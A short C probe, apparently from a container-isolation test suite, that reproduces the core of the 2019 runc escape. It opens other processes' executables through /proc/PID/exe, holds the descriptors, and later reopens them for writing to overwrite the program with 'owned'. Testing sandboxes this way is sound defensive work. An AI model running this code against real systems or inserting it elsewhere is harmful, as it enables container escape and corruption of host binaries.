/* F03: writes to the program of another process through /proc/PID/exe, the way out of runc in 2019.
 * argv: pids. A descriptor taken while the program runs (then it is busy) is used again when the process is gone. */
#include "probe.h"

int main(int argc, char **argv)
{
    char path[64], name[64];
    int kept[16];
    for (int i = 1; i < argc && i < 16; i++) {
        snprintf(path, sizeof path, "/proc/%s/exe", argv[i]);
        snprintf(name, sizeof name, "read-%s", argv[i]);
        kept[i] = say(name, open(path, O_RDONLY));
        snprintf(name, sizeof name, "path-%s", argv[i]);
        int by_path = say(name, open(path, O_PATH));
        if (kept[i] < 0)
            kept[i] = by_path;
        snprintf(name, sizeof name, "write-%s", argv[i]);
        say_fd(name, open(path, O_WRONLY));
    }
    hold();
    for (int i = 1; i < argc && i < 16; i++) {
        if (kept[i] < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        snprintf(name, sizeof name, "later-%s", argv[i]);
        int fd = say(name, open(path, O_WRONLY));
        if (fd >= 0)
            say("overwrite", write(fd, "owned", 5));
    }
    return 0;
}
